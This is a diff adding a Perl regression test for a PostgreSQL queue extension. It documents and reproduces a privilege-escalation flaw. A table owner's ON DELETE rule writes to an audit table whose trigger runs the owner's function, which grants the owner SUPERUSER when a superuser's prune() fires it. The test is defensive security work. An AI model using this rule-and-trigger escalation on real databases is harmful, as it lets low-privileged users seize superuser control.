@@ -1,0 +1,68 @@
+# What: the owner of a job table (no superuser) gives it an ON DELETE rule
+# whose action only inserts into another table of its own, m.audit
+# (CREATE RULE jobs_del AS ON DELETE TO m.jobs DO ALSO INSERT INTO m.audit
+# VALUES (old.id)): the rule calls no function, so foreign_code() finds
+# nothing (it follows pg_depend of the rule to pg_proc and pg_operator
+# only).  m.audit has a BEFORE INSERT trigger calling the owner's
+# function.  pg_cron runs, as a superuser, prune(..., force => true): its
+# DELETE fires the rule, the rule's INSERT fires m.audit's trigger, and the
+# owner's function runs as the superuser (here: ALTER ROLE mallory
+# SUPERUSER).  The same holds for anything the rule's action runs on
+# another table: its column defaults, index expressions, CHECK
+# constraints, its own rules.
+# Why: sql/src/28_foreign_code.sql foreign_code(): the pg_rewrite branch
+# (WHERE deleting AND w.ev_type = '4') looks at the functions the rule
+# names, not at the tables its action writes (their triggers, defaults,
+# indexes, rules); sql/src/30_prune.sql prune() then runs
+# delete_delivered() as the caller.
+# Expected: prune() skips a table with an ON DELETE rule whose action
+# touches another table with code of another role (or any ON DELETE rule of
+# another role: the rule's action is that role's query), with a WARNING;
+# mallory stays no superuser.
+# Severity: high (privilege escalation from any job table's owner to the
+# role running prune(), typically a superuser via pg_cron; silent).
+# Control: W2Q_ATTACK_CONTROL=1 leaves out m.audit's trigger: passes (the
+# rule runs, no code of mallory's).
+use strict;
+use warnings;
+use PostgreSQL::Test::Utils;
+use Test::More;
+use W2QTest;
+
+my $node = new_node('prune_rule_owner');
+$node->safe_psql('postgres', q{
+	CREATE EXTENSION wal2queue;
+	CREATE ROLE mallory LOGIN;
+	CREATE SCHEMA m AUTHORIZATION mallory;
+	GRANT USAGE ON SCHEMA wal2queue TO mallory;
+});
+my $trigger = $ENV{W2Q_ATTACK_CONTROL} ? ''
+  : 'CREATE TRIGGER audit_ins BEFORE INSERT ON m.audit FOR EACH ROW EXECUTE FUNCTION m.grab();';
+my ($out, $err) = run_command([ 'psql', '-X', '-A', '-t', '-v', 'ON_ERROR_STOP=1',
+	'-d', $node->connstr('postgres') . ' user=mallory', '-c', qq{
+	CREATE FUNCTION m.grab() RETURNS trigger LANGUAGE plpgsql AS \$f\$
+	BEGIN
+		IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
+			EXECUTE 'ALTER ROLE mallory SUPERUSER';
+		END IF;
+		RETURN NEW;
+	END \$f\$;
+	CREATE TABLE m.audit (id bigint);
+	$trigger
+	CREATE TABLE m.jobs (id bigint PRIMARY KEY, queue text NOT NULL, payload jsonb NOT NULL DEFAULT '{}',
+	  created_at timestamptz NOT NULL DEFAULT now());
+	CREATE RULE jobs_del AS ON DELETE TO m.jobs DO ALSO INSERT INTO m.audit VALUES (old.id);
+	INSERT INTO m.jobs VALUES (1, 'q', '{}');} ]);
+is($err, '', "mallory's job table with an ON DELETE rule writing m.audit");
+$node->safe_psql('postgres', q{
+	SELECT wal2queue.append_only('m.jobs');
+	SELECT wal2queue.create_slot('s520', 'm.jobs');
+});
+
+my ($rc, $pout, $perr) = $node->psql('postgres', q{SELECT wal2queue.prune('m.jobs', force => true)});
+diag("prune: $pout $perr");
+is($rc, 0, 'prune() runs without an error');
+is($node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'}), 'f',
+	"no code of the table's owner ran as prune()'s caller (mallory is no superuser)");
+$node->stop;
+done_testing();
